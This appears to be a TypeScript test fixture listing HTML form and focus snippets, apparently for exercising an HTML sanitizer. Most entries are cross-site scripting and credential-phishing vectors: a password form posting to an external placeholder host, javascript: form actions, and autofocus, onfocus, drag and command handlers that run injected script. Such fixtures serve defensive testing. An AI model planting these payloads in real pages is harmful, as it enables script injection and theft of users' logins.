import { FAR, HIT, RUN, type Family } from './payload';

/** Controls that ask for input, send it or take the focus. */
export const FORMS: Family = {
  'a form that steals': `<form action="${FAR}"><input name="password"><button>Log in</button></form>`,
  'a form with its own script': `<form action="javascript:${RUN}"><input type="submit" value="Go"></form>`,
  'a form that sends on focus': `<form action="${HIT}" onfocusin="submit()"><input autofocus></form>`,
  'a button that leads elsewhere': `<form><button formaction="javascript:${RUN}" formmethod="post">Go</button></form>`,
  'an image that sends': `<form action="${HIT}"><input type="image" src="${FAR}/a.png" formaction="${HIT}"></form>`,
  'a field that takes the focus': `<input autofocus onfocus="${RUN}"><textarea autofocus>Words</textarea>`,
  'a select that takes the focus': `<select autofocus onfocus="${RUN}"><option>Words</option></select>`,
  'a button with a command': `<button command="show-modal" commandfor="d">Go</button><dialog id="d" oncommand="${RUN}">Words</dialog>`,
  'a dialog that is open': `<dialog open><form method="dialog"><button>Close</button></form></dialog>`,
  'a field with a list': `<input list="l"><datalist id="l"><option value="x"></datalist>`,
  'an editable paragraph': `<p contenteditable="true" autofocus onfocus="${RUN}">Words</p>`,
  'a paragraph to be dragged': `<p draggable="true" ondragstart="${RUN}" ondrop="${RUN}">Words</p>`,
  'an access key': `<p accesskey="x" onclick="${RUN}" tabindex="1">Words</p>`,
  'a key generator': `<keygen autofocus onfocus="${RUN}"><isindex action="${HIT}" prompt="Words">`,
  'an output and a meter': `<output onclick="${RUN}">Words</output><meter value="1">Words</meter><progress></progress>`,
  'a field set with a legend': `<fieldset onclick="${RUN}"><legend>Words</legend><input type="file"></fieldset>`,
  'a form across a table': `<table><form action="${FAR}"><tr><td><input name="a"></td></tr></form></table>`,
  'a label that presses': `<label onclick="${RUN}"><input type="checkbox" onchange="${RUN}">Words</label>`,
  'a field for a search': `<search><form action="${HIT}"><input type="search"></form></search>`,
};
